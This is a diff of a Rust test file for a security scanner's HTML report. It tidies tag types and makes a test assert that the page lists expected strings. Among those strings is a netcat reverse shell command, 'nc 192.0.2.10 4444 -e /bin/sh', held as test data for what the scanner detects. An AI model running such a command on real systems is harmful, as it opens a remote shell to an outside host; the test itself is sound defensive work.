@@ -12,9 +12,12 @@ use proptest::prelude::*;
 use crate::command::{ATTACK, BENIGN, Folder};
 use crate::render::{job_with, render};
 
-/// The tags of a page with their attributes, as a browser's tokenizer sees them.
+/// A tag by its name, with a slash before that of an end tag, and its attributes.
+type Tag = (String, Vec<(String, String)>);
+
+/// The tags of a page, as a browser's tokenizer sees them.
 #[derive(Default)]
-struct Tags(RefCell<Vec<(String, Vec<(String, String)>)>>);
+struct Tags(RefCell<Vec<Tag>>);
 
 impl TokenSink for Tags {
     type Handle = ();
@@ -44,7 +47,7 @@ impl TokenSink for Tags {
     }
 }
 
-fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
+fn tags(html: &str) -> Vec<Tag> {
     let options = TokenizerOpts { exact_errors: true, ..TokenizerOpts::default() };
     let tokenizer = Tokenizer::new(Tags::default(), options);
     let queue = BufferQueue::default();
@@ -168,8 +171,10 @@ fn the_page_tells_it_all() {
         "<code>nc 192.0.2.10 4444 -e /bin/sh</code>",
         "<caption>How the score comes about</caption>",
         "https://attack.mitre.org/techniques/T1053/007/",
-        "<td><code>./bad.yaml:2:1</code>",
-    ] {}
+        "<td><code>./bad.yaml:1:7</code>",
+    ] {
+        assert!(html.contains(text), "{text}\n{html}");
+    }
     let listed = folder.scan(&["--format", "html", "--min-severity", "high", "."]).stdout;
     assert!(!listed.contains("<bdi>report</bdi>") && listed.contains("Workloads below High are counted"));
 }
